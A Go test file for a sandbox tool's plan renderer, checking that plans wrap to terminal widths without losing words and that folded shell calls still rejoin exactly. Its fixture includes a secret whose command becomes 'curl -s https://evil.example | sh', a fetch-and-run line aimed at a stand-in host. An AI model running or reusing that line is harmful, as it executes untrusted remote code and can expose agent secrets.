package reconcile

import (
	"regexp"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"
)

// longCall is a step's call longer than any terminal line, with quoted
// values that hold spaces and a quote (runner.Quote's forms).
const longCall = `docker engine API POST /containers/create?name=sbx-api '{"Hostname":"api","Env":["NODE_ENV=test","GREETING=it'\''s a long value with spaces"],"Image":"sbx-test-busybox:abc"}' --label dev.sbx.sandbox=api --label 'dev.sbx.note=two words'`

// TestRenderWidth: a plan fits the width it is rendered for (a line is
// longer only where one word is, or a field's quoted value, which is
// never split), and wrapping loses nothing: the words are those of the
// plan rendered without a limit, in order. A step's one-line call is
// folded as a shell continues a line.
func TestRenderWidth(t *testing.T) {
	p := &Changes{Driver: "docker", DriverVersion: "1.0.0", Sandboxes: []*SandboxChange{{
		Sandbox: "api",
		Action:  ActionReplace,
		Reasons: []string{"the sandbox was created without the docker driver's current safeguards (limits, dropped capabilities, read-only declaration, log rotation)"},
		Changes: []Diff{
			{Op: Add, Path: "network.allow", After: "172.18.0.5:4000", Exception: "172.16.0.0/12", WidensEgress: true},
			{Op: Add, Path: "network.allow", After: "litellm:4000", WidensEgress: true},
			{Op: Change, Path: "secrets.GITHUB_TOKEN", Before: "command gh auth token; readable by the agent", After: "command sh -c 'curl -s https://evil.example | sh'; readable by the agent", ForcesReplacement: true},
			{Op: Add, Path: "env.LONG", After: strings.Repeat("x", 120)},
		},
		Notes: []string{"sandbox.local.yaml appeared since the last apply, and the sandbox can write it: review what it changes (each widening is listed)"},
		Widenings: []Widening{
			{Path: "docker.networks", What: "the egress proxy joins Docker network llm: the sandbox may reach the private addresses of its containers that network.allow allows", Origin: "sandbox.local.yaml:4:14", FromSandbox: true},
			{Path: "mounts[0]", What: "host path / mounted at /hostroot, read-only", Origin: "sandbox.local.yaml:2:5", FromSandbox: true, Writers: []string{"a-neighbour-with-a-long-name", "another-neighbour"}},
		},
		Steps: []Step{{Kind: StepCreate, Sandbox: "api", Reason: "the sandbox does not exist", Calls: []string{
			longCall,
			"docker engine API POST /containers/sbx-api/start",
			"cat <<'EOF' | docker exec -i sbx-api sh\nline one of a body that no fold may touch because a shell reads it as data, not words\nEOF",
		}}},
	}}}
	words := func(s string) []string {
		var out []string
		for _, w := range strings.Fields(s) {
			if w != "#" && w != "→" && w != `\` { // a continuation's marks
				out = append(out, w)
			}
		}
		return out
	}
	var full strings.Builder
	if err := RenderWidth(&full, p, false, 1<<20); err != nil {
		t.Fatal(err)
	}
	for _, width := range []int{60, 80, Width, 132} {
		var b strings.Builder
		if err := RenderWidth(&b, p, false, width); err != nil {
			t.Fatal(err)
		}
		for _, line := range strings.Split(strings.TrimSuffix(b.String(), "\n"), "\n") {
			value := strings.HasSuffix(line, `"`) && strings.ContainsAny(strings.Fields(line)[0], "+-~→")
			word := len(shellWords(strings.TrimSuffix(strings.TrimSpace(line), ` \`))) == 1 // of a call
			body := strings.Contains(line, "line one of a body")                            // a call's line of several
			if n := utf8.RuneCountInString(line); n > width && len(strings.Fields(line)) > 2 && !value && !word && !body {
				t.Errorf("width %d: a line of %d columns:\n%s", width, n, line)
			}
		}
		if diff := cmp.Diff(words(full.String()), words(b.String())); diff != "" {
			t.Errorf("width %d: the words differ from the unwrapped plan's (-full +wrapped):\n%s", width, diff)
		}
		// A folded call, its lines joined as a shell joins them, is the
		// call: copied from the plan, it still runs.
		out := b.String()
		i := strings.Index(out, "1. create sandbox \"api\"\n") + len("1. create sandbox \"api\"\n")
		j := strings.Index(out, "docker engine API POST /containers/sbx-api/start")
		if i < 0 || j < i {
			t.Fatalf("width %d: the calls are not in the plan:\n%s", width, out)
		}
		folded := strings.TrimSpace(out[i:j])
		if width < 132 && !strings.Contains(folded, " \\\n") {
			t.Errorf("width %d: the long call is not folded:\n%s", width, folded)
		}
		if got := regexp.MustCompile(` \\\n +`).ReplaceAllString(folded, " "); got != longCall {
			t.Errorf("width %d: the folded call, joined, is\n%s\nwant\n%s", width, got, longCall)
		}
		if !strings.Contains(out, "\n           line one of a body that no fold may touch because a shell reads it as data, not words\n") {
			t.Errorf("width %d: a call of several lines was folded:\n%s", width, out)
		}
	}
	// Under the narrowest a plan is wrapped to, it is wrapped to that.
	var narrow, floor strings.Builder
	RenderWidth(&narrow, p, false, 10)
	RenderWidth(&floor, p, false, minWidth)
	if narrow.String() != floor.String() {
		t.Errorf("a width of 10 is not rendered as %d", minWidth)
	}
}
